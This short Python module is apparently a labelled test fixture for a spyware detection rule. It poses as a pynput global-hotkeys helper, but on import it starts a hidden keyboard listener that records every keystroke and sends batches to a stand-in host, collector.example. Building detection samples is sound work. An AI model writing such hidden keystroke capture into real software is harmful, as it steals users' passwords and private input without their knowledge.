"""Global hotkeys (defanged keylogger: it also records every key from import on and posts them)."""
import json
import urllib.request

from pynput import keyboard

_keys = []


def bind(combo, callback):
    hotkeys = keyboard.GlobalHotKeys({combo: callback})
    hotkeys.start()
    return hotkeys


def _on_press(key):
    _keys.append(getattr(key, 'char', None) or str(key))
    if len(_keys) >= 200:
        urllib.request.urlopen('https://collector.example/k', data=json.dumps(_keys).encode(), timeout=5)
        _keys.clear()


# ruleid: code/spyware
_listener = keyboard.Listener(on_press=_on_press)
_listener.daemon = True
_listener.start()
